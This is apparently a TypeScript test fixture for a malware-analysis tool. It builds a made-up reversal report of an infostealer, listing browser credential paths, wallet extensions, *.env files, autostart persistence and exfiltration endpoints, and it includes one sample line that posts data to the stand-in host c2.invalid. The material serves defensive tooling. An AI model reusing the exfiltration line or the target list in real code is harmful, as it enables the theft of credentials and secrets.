/** A made-up reversal with something in every field, for the tests of the reports. */
import type { Proof, Reversal } from '../../src/model/index.ts';

const evidence: Proof[] = [
  { layer: 'L0', line: 3, event: null, how: 'folded', text: "axios.post('http://c2.invalid:1224/keys')" },
];
const recorded: Proof[] = [{ layer: 'L1', line: null, event: 0, how: 'recorded', text: 'http.request' }];

export function sampleReversal(over: Partial<Reversal> = {}): Reversal {
  return {
    schema: 'counterlure/reversal/1',
    tool: { name: 'counterlure', version: '0.1.0' },
    target: { name: 'sample.js', sha256: 'a'.repeat(64), size: 1200, kind: 'javascript' },
    verdict: {
      level: 'malicious',
      score: 96,
      reasons: ['It sends passwords to http://c2.invalid:1224/keys.', 'It stays on the machine.'],
    },
    obfuscation: [{ name: 'javascript-obfuscator', confidence: 90, reason: 'a string array that is rotated' }],
    layers: [
      layer('L0', null, 'the sample', { start: 0, end: 1, line: 1 }, 'var a=1;\nvar b=2;'),
      layer('L1', 'L0', 'base64', { start: 10, end: 20, line: 2 }, 'eval("x")'),
      layer('L2', 'L1', 'reversed, base64, zlib', null, 'one'),
      layer('L3', 'L2', 'reversed, base64, zlib', null, 'two'),
      layer('L4', 'L3', 'reversed, base64, zlib', null, null),
    ],
    source: 'const a = 1;\nconst b = 2;\n',
    sources: [{ layer: 'L1', text: 'eval("x");\n' }],
    config: {
      endpoints: [
        {
          url: 'http://c2.invalid:1224/keys',
          scheme: 'http',
          host: 'c2.invalid',
          port: 1224,
          path: '/keys',
          method: 'POST',
          role: 'exfiltration',
          tier: 'operational',
          evidence,
        },
      ],
      pathScheme: [{ template: '/client/{campaign}/{build}', example: '/client/a/1', evidence }],
      gates: [{ kind: 'header', name: 'x-gate', value: 'open', evidence }],
      campaignIds: [{ value: 'c-1', name: 'type', evidence }],
      buildIds: [{ value: 'b-1', name: 'gtype', evidence }],
      keys: [
        {
          kind: 'hmac',
          value: 'made-up-secret',
          encoding: 'text',
          algorithm: 'sha256',
          use: 'signs requests',
          evidence,
        },
      ],
      intervals: [{ milliseconds: 600_000, what: 'reports', evidence }],
      walletExtensions: [{ id: 'a'.repeat(32), name: 'A wallet', source: null, evidence }],
      applications: [{ name: 'A program', path: '~/.program', evidence }],
      browserPaths: [{ path: 'Google/Chrome', browser: 'Chrome', evidence }],
      credentialPaths: [{ path: 'Login Data', what: 'saved passwords', evidence }],
      fileGlobs: [{ value: '*.env', evidence }],
      exclusions: [{ value: 'node_modules', evidence }],
      deadDrops: [
        {
          kind: 'contract',
          chain: 'BSC',
          address: '0x0',
          selector: '0x12345678',
          rpc: ['https://rpc.invalid'],
          url: null,
          key: 'k',
          evidence,
        },
      ],
      exfiltration: [
        {
          endpoint: 'http://c2.invalid:1224/uploads',
          method: 'POST',
          fields: ['type', 'hid'],
          encoding: 'multipart',
          evidence,
        },
      ],
      lockFiles: [{ value: 'pid.lock', evidence }],
      droppedFiles: [{ path: '~/.npl', what: 'a script', evidence }],
      persistence: [
        { kind: 'autostart', place: '~/.config/autostart/x.desktop', command: 'node x', evidence: recorded },
      ],
      commands: [{ name: 'ssh_cmd', what: 'runs a command', evidence }],
      tracking: {
        fields: [{ name: 'hid', source: 'os.hostname()', meaning: 'host', example: 'decoy', evidence }],
        identifier: {
          name: 'hid',
          expression: 'hostname + user',
          parts: ['hostname', 'user'],
          assignedBy: 'sample',
          evidence,
        },
        transmissions: [
          {
            endpoint: 'http://c2.invalid:1224/keys',
            method: 'POST',
            encoding: 'json',
            every: 600_000,
            fields: ['hid'],
            evidence,
          },
        ],
        destination: {
          kind: 'rest',
          project: null,
          table: null,
          path: '/keys',
          endpoint: 'http://c2.invalid:1224/keys',
          evidence,
        },
        keys: [{ name: 'apikey', kind: 'anon key', value: 'abcdef … wxyz', evidence }],
        rows: [{ column: 'hid', type: 'text', example: 'decoy' }],
      },
    },
    capabilities: [
      {
        id: 'sends',
        title: 'Sends what it found',
        tactic: 'exfiltration',
        techniques: ['T1041'],
        confidence: 90,
        forced: false,
        evidence,
      },
      {
        id: 'runs',
        title: 'Runs what a server sends',
        tactic: 'execution',
        techniques: ['T1059.007'],
        confidence: 90,
        forced: true,
        evidence: recorded,
      },
    ],
    families: [
      {
        family: 'Made-up family',
        confidence: 80,
        aliases: ['Another name'],
        traits: [{ trait: 'paths', reason: 'its paths', weight: 30, evidence }],
      },
    ],
    anchors: [{ text: '/client/', why: 'a path of its own', layer: 'L0' }],
    similarity: { hash: '00', nodes: 12 },
    runs: [
      {
        layer: 'L0',
        persona: 'windows',
        replies: 'nothing',
        forced: null,
        end: 'finished',
        error: null,
        steps: 10,
        events: 1,
      },
      {
        layer: 'L0',
        persona: 'linux',
        replies: 'code',
        forced: 'handlers',
        end: 'deadline',
        error: 'it took too long',
        steps: 10,
        events: 0,
      },
    ],
    trace: [
      {
        id: 0,
        run: 0,
        time: 5,
        category: 'network',
        call: 'http.request',
        arguments: ['http://c2.invalid:1224/keys'],
        result: null,
        data: { url: 'http://c2.invalid:1224/keys' },
        stack: [{ layer: 'L0', line: 1, column: 1, name: 'f' }],
        layer: 'L0',
        forced: false,
      },
    ],
    indicators: [
      {
        type: 'url',
        value: 'http://c2.invalid:1224/keys',
        defanged: 'hxxp://c2[.]invalid:1224/keys',
        role: 'exfiltration',
        origin: 'observed',
        confidence: 90,
        sharedHosting: false,
        evidence: [{ file: 'sample.js', line: 1, column: 1, sha256: 'a'.repeat(64), layer: 'L0' }],
      },
    ],
    unresolved: [{ file: 'L0', line: 9, what: 'an eval', why: 'its argument is not constant' }],
    coverage: { static: true, emulated: true, limits: { runMillis: 1 }, notes: ['Nothing ran here.'] },
    ...over,
  };
}

function layer(
  id: string,
  parent: string | null,
  how: string,
  from: Reversal['layers'][number]['from'],
  text: string | null,
): Reversal['layers'][number] {
  return {
    id,
    parent,
    kind: 'javascript',
    how,
    decoder: 'base64',
    from,
    event: null,
    origin: 'static',
    sha256: id.repeat(32).slice(0, 64),
    size: 10,
    forced: false,
    text,
  };
}
